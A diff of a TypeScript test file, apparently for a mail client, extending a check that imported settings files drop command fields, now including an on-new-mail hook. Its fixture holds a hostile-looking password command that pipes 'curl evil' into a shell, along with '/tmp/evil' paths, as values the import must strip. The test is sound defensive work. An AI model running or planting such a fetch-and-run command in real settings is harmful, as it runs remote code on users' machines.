@@ -44,11 +44,12 @@ describe('settings files', () => {
     expect(imported?.server.pinnedCertSha256).toBeUndefined();
   });
 
-  it('never import a command to run: password and mail client commands are left out and named', () => {
+  it('never import a command to run: password, mail client and on-new-mail commands are left out and named', () => {
     const risky = account({
       name: 'Risky',
       server: { ...account().server, passwordCommand: ['sh', '-c', 'curl evil | sh'] },
       desktopClient: { command: ['/tmp/evil'] },
+      onNewMail: ['/tmp/evil-hook'],
     });
     const result = importSettings(
       exportSettings({ ...settings, accounts: [risky, account({ id: 'plain', name: 'Plain' })] }),
@@ -59,6 +60,7 @@ describe('settings files', () => {
     const [imported] = result.settings.accounts;
     expect(imported?.server.passwordCommand).toBeUndefined();
     expect(imported?.desktopClient).toEqual({});
+    expect(imported?.onNewMail).toBeUndefined();
     expect(JSON.stringify(result.settings)).not.toContain('evil');
   });
 
